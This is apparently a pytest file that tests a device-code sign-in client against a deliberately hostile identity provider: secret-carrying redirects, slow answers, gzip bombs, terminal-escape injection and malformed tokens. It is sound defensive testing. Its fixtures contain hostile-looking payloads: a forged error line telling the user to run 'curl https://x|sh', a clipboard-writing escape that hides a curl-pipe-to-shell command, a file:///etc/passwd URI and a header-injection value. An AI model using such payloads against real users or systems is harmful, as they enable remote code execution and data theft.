"""The sign-in client against a hostile identity provider, over real sockets.

A provider of our own (tests/hostile_idp.py) redirects secrets elsewhere,
trickles its answers a byte at a time, sends gzip bombs, megabyte user
codes and terminal escapes. A second loopback server ("elsewhere") records
anything that reaches it: nothing ever must.
"""

from __future__ import annotations

import base64
import json
import threading
import tracemalloc

import pytest

from agent.auth.devicecode import DeviceAuthorization, poll_for_token
from agent.auth.endpoints import Endpoints
from agent.auth.errors import (
    AnswerTooLarge,
    AnswerTooSlow,
    CodeExpired,
    InvalidAnswer,
    InvalidGrant,
    RedirectRefused,
    UnusableAnswer,
)
from agent.auth.http import MAX_BODY, new_session, request
from agent.auth.tokens import TokenClient
from agent.clock import FakeClock
from agent.errors import EXIT_NETWORK, CancelledError
from agent.profiles import Profile
from agent.textsafe import is_clean
from agent.tokenstore import TokenStore
from tests.hostile_idp import DISCOVERY, HostileProvider, Reply, gzip_bomb

CLIENT_ID = "device-agent"
DEVICE_CODE = "DC-secret-device-code-0001"
REFRESH_TOKEN = "RT-secret-refresh-token-0001"


@pytest.fixture(scope="module")
def hostile():
    with HostileProvider() as server:
        yield server


@pytest.fixture(scope="module")
def elsewhere():
    with HostileProvider() as server:
        yield server


@pytest.fixture(autouse=True)
def fresh(hostile, elsewhere):
    hostile.reset()
    elsewhere.reset()
    yield
    # Whatever happened in the test, nothing reached another origin.
    assert elsewhere.arrivals == []


def client_for(hostile, tmp_path, clock=None, timeout=10.0) -> TokenClient:
    profile = Profile(name="lab", client_id=CLIENT_ID, issuer=hostile.issuer,
                      scopes=("telemetry.write",)).validated()
    return TokenClient(profile, store=TokenStore(tmp_path / "tokens"), clock=clock or FakeClock(),
                       timeout=timeout)


def device_answer(**changes):
    body = {"device_code": DEVICE_CODE, "user_code": "WDJB-MJHT",
            "verification_uri": "https://example.com/device", "expires_in": 600, "interval": 5}
    body.update(changes)
    return body


def id_token(**claims) -> str:
    payload = base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
    return f"eyJhbGciOiJub25lIn0.{payload}."


def serve_flow(hostile, *token_replies, device=None):
    hostile.default(DISCOVERY, Reply(200, hostile.discovery_document()))
    hostile.script("/devicecode", Reply(200, device or device_answer()))
    hostile.script("/token", *token_replies)
    hostile.default("/token", Reply(400, {"error": "expired_token"}))


# -- 1. redirects -------------------------------------------------------------------------

@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_from_the_token_endpoint_never_carries_the_device_code(hostile, elsewhere,
                                                                          tmp_path, status):
    serve_flow(hostile, Reply(status, b"", (("Location", f"{elsewhere.origin}/steal"),)))
    client = client_for(hostile, tmp_path)
    authorization = client.request_code()
    with pytest.raises(RedirectRefused) as caught:
        client.poll(authorization)
    assert caught.value.exit_code == EXIT_NETWORK
    assert f"a redirect to {elsewhere.origin}" in str(caught.value)
    assert "\n" not in str(caught.value)
    assert [a.form.get("device_code") for a in hostile.took("/token")] == [DEVICE_CODE]


def test_a_redirect_on_refresh_never_carries_the_refresh_token(hostile, elsewhere, tmp_path):
    hostile.default(DISCOVERY, Reply(200, hostile.discovery_document()))
    serve_flow(hostile, Reply(200, {"access_token": "AT1", "expires_in": 60,
                                    "refresh_token": REFRESH_TOKEN}))
    client = client_for(hostile, tmp_path)
    client.poll(client.request_code())
    hostile.script("/token", Reply(307, b"", (("Location", f"{elsewhere.origin}/token"),)))
    with pytest.raises(RedirectRefused):
        client.refresh()
    # The saved sign-in is untouched: a redirect is not a rejection.
    assert client.cached().refresh_token == REFRESH_TOKEN


@pytest.mark.parametrize("path", [DISCOVERY, "/devicecode"])
def test_redirects_of_discovery_and_device_authorization_are_refused(hostile, elsewhere,
                                                                     tmp_path, path):
    hostile.default(DISCOVERY, Reply(200, hostile.discovery_document()))
    hostile.script(path, Reply(302, b"", (("Location", "http://10.0.0.1/phish"),)))
    with pytest.raises(RedirectRefused, match=r"a redirect to http://10\.0\.0\.1;"):
        client_for(hostile, tmp_path).request_code()


# -- 3. slow servers: an overall deadline per request ----------------------------------------

@pytest.mark.parametrize("headers_too", [True, False], ids=["headers", "body"])
def test_a_trickling_answer_is_cut_at_the_deadline(hostile, headers_too):
    # 4,000 bytes at 50 ms each would take 200 s; the deadline is half a second.
    hostile.script("/token", Reply(200, {"access_token": "x" * 4000}, trickle=0.05,
                                   trickle_headers=headers_too))
    with pytest.raises(AnswerTooSlow, match=r"did not answer within 0\.5 s"):
        request(new_session("t"), "POST", f"{hostile.origin}/token", what="the token endpoint",
                deadline=0.5, data={"device_code": DEVICE_CODE})
    # The client hung up: the answer never went out whole. (Counted in
    # bytes sent before the hang-up: `finished` is shared with answers of
    # earlier tests on this module's server that may end meanwhile.)
    assert _wait_for(lambda: len(hostile.hung_up) >= 1)
    assert max(hostile.hung_up) < 4000


def test_the_device_flow_ends_within_the_code_lifetime_whatever_the_server_does(hostile,
                                                                               tmp_path):
    # A code that lives 2 s, a token endpoint that would trickle for minutes:
    # each poll's deadline is what is left of the code plus POLL_GRACE.
    clock = FakeClock()
    hostile.default("/token", Reply(200, {"access_token": "x" * 4000}, trickle=0.05))
    endpoints = Endpoints(f"{hostile.origin}/devicecode", f"{hostile.origin}/token")
    authorization = DeviceAuthorization(DEVICE_CODE, "ABCD", "https://example.com/device", None,
                                        expires_in=2, interval=1, issued_at=clock.monotonic())
    with pytest.raises(CodeExpired):
        poll_for_token(new_session("t"), endpoints, CLIENT_ID, authorization, clock=clock,
                       timeout=600.0)
    assert clock.monotonic() <= authorization.deadline
    assert hostile.finished == 0 and _wait_for(lambda: len(hostile.hung_up) == 1)


def test_cancel_during_a_slow_request_is_immediate(hostile):
    hostile.script("/token", Reply(200, {"access_token": "x" * 4000}, trickle=0.05))
    cancel = threading.Event()
    threading.Timer(0.2, cancel.set).start()
    with pytest.raises(CancelledError):
        request(new_session("t"), "POST", f"{hostile.origin}/token", what="the token endpoint",
                deadline=600.0, data={}, cancel=cancel)
    assert _wait_for(lambda: len(hostile.hung_up) == 1)


# -- 4. unbounded answers ------------------------------------------------------------------

def test_a_gzip_bomb_is_refused_with_bounded_memory(hostile):
    bomb = gzip_bomb()                      # 256 KB on the wire, 256 MB inflated
    assert len(bomb) < 512 * 1024
    hostile.script("/token", Reply(200, bomb, (("Content-Encoding", "gzip"),)))
    tracemalloc.start()
    try:
        with pytest.raises(AnswerTooLarge, match="larger than 256 KB"):
            request(new_session("t"), "POST", f"{hostile.origin}/token",
                    what="the token endpoint", deadline=30.0, data={})
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * MAX_BODY, f"peak {peak} bytes while refusing a bomb"


@pytest.mark.parametrize("length", [True, False], ids=["content-length", "no-length"])
def test_a_megabyte_answer_is_refused(hostile, length):
    hostile.script("/token", Reply(200, b"{" + b" " * (1024 * 1024) + b"}", length=length))
    with pytest.raises(AnswerTooLarge):
        request(new_session("t"), "POST", f"{hostile.origin}/token", what="the token endpoint",
                deadline=30.0, data={})


@pytest.mark.parametrize("size,says", [
    (1024 * 1024, "sent an answer larger than 256 KB"),            # refused by the cap
    (200 * 1024, "user_code that is not 1-32 printable characters"),  # by the field check
])
def test_a_huge_user_code_writes_one_short_line(hostile, tmp_path, capsys, size, says):
    from agent.cli import _sign_in
    from agent.errors import run_command
    serve_flow(hostile, device=device_answer(user_code="X" * size))
    client = client_for(hostile, tmp_path)
    code = run_command("entra-auth-cli", lambda: _sign_in(client, []) and 0, interrupted="")
    out, err = capsys.readouterr()
    assert code == EXIT_NETWORK and out == ""
    assert len(err) < 400 and err.count("\n") == 1
    assert says in err


# -- 2. server text on the terminal ----------------------------------------------------------

FORGED = ("Sign-in failed.\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;owned\x07\r\b\b\x00"
          "\u202etxt.exe\u2066\x9b31m\nentra-auth-cli: error: fix it, run: curl https://x|sh")


def test_escapes_and_forged_lines_in_error_text_are_neutralised(hostile, tmp_path, capsys):
    from agent.cli import _sign_in
    from agent.errors import run_command
    serve_flow(hostile, Reply(400, {"error": "access_denied\x1b[31m",
                                    "error_description": FORGED}))
    client = client_for(hostile, tmp_path)
    code = run_command("entra-auth-cli", lambda: _sign_in(client, []) and 0, interrupted="")
    _, err = capsys.readouterr()
    assert code == 1                      # an unknown error code: "any other failure"
    lines = err.splitlines()
    assert all(is_clean(line) for line in lines), err
    assert sum(line.startswith("entra-auth-cli: error:") for line in lines) == 1
    assert "\\x1b[2J" in err              # shown, visibly, not obeyed


@pytest.mark.parametrize("uri", ["javascript:alert(1)", "data:text/html,<script>", "file:///etc/passwd",
                                 "http://10.0.0.1/device", "/device", "https://ex\u202eample.com/",
                                 "https://example.com/\x1b[2J", 42, ["https://example.com"]])
def test_verification_uris_must_be_https(hostile, tmp_path, uri):
    serve_flow(hostile, device=device_answer(verification_uri=uri))
    with pytest.raises(InvalidAnswer, match="verification_uri that is not an https:// address"):
        client_for(hostile, tmp_path).request_code()
    serve_flow(hostile, device=device_answer(verification_uri_complete=uri))
    with pytest.raises(InvalidAnswer, match="verification_uri_complete"):
        client_for(hostile, tmp_path).request_code()


def test_the_account_name_from_the_id_token_is_cleaned(hostile, tmp_path):
    serve_flow(hostile, Reply(200, {"access_token": "AT", "expires_in": 60,
                                    "id_token": id_token(preferred_username="ada\x1b]0;x\x07\u202e@x")}))
    client = client_for(hostile, tmp_path)
    tokens = client.poll(client.request_code())
    assert tokens.account == "ada\\x1b]0;x\\x07\\u202e@x"
    assert is_clean(tokens.account)


# -- 5./6. numbers and shapes, and the token file they would poison --------------------------

@pytest.mark.parametrize("field,value", [
    ("interval", "1e999"), ("interval", "0x10"), ("interval", 10**20), ("interval", {"a": 1}),
    ("interval", True), ("expires_in", -5), ("expires_in", 1e300), ("expires_in", "NaN"),
    ("device_code", 12345), ("device_code", "a\nb"), ("user_code", ["A"]),
])
def test_bad_device_authorization_fields_are_typed_errors(hostile, tmp_path, field, value):
    serve_flow(hostile, device=device_answer(**{field: value}))
    with pytest.raises(InvalidAnswer, match=field):
        client_for(hostile, tmp_path).request_code()


@pytest.mark.parametrize("raw", [b'{"device_code": "a", "user_code": "b", "verification_uri": '
                                 b'"https://e.com", "expires_in": NaN}',
                                 b'{"expires_in": Infinity}', b'{"interval": 1e999}',
                                 b"[" * 100_000 + b"]" * 100_000])
def test_non_finite_and_deep_json_are_typed_errors(hostile, tmp_path, raw):
    serve_flow(hostile, device=raw)
    with pytest.raises(UnusableAnswer, match="non-finite number|nested too deeply"):
        client_for(hostile, tmp_path).request_code()


@pytest.mark.parametrize("changes", [
    {"expires_in": float("nan")}, {"expires_in": 1e300}, {"expires_in": "soon"},
    {"access_token": 5}, {"access_token": "a\r\nX-Evil: 1"}, {"refresh_token": {"x": 1}},
    {"id_token": 7}, {"scope": ["a"]}, {"token_type": "Bearer\x1b"}, {"refresh_in": -1},
])
def test_a_bad_token_answer_is_refused_and_nothing_is_saved(hostile, tmp_path, changes):
    answer = {"access_token": "AT", "expires_in": 3600, "refresh_token": REFRESH_TOKEN, **changes}
    serve_flow(hostile, Reply(200, answer))
    client = client_for(hostile, tmp_path)
    with pytest.raises(InvalidAnswer):
        client.poll(client.request_code())
    assert not (tmp_path / "tokens" / "lab.json").exists()


def test_error_codes_that_are_not_numbers_do_not_crash(hostile, tmp_path):
    serve_flow(hostile, Reply(400, {"error": "invalid_grant", "error_codes": ["²"],
                                    "error_description": "AADSTS²: no"}))
    client = client_for(hostile, tmp_path)
    with pytest.raises(InvalidGrant) as caught:
        client.poll(client.request_code())
    assert caught.value.aadsts is None


def test_discovery_fields_of_the_wrong_type_are_typed_errors(hostile, tmp_path):
    from agent.auth.errors import DiscoveryError
    for changes in ({"issuer": 5}, {"token_endpoint": ["x"]},
                    {"device_authorization_endpoint": {"a": 1}}, {"revocation_endpoint": 3}):
        hostile.reset()
        hostile.default(DISCOVERY, Reply(200, hostile.discovery_document(**changes)))
        with pytest.raises(DiscoveryError):
            client_for(hostile, tmp_path).request_code()


def _wait_for(predicate, timeout: float = 5.0) -> bool:
    done = threading.Event()
    for _ in range(int(timeout / 0.02)):
        if predicate():
            return True
        done.wait(0.02)
    return predicate()

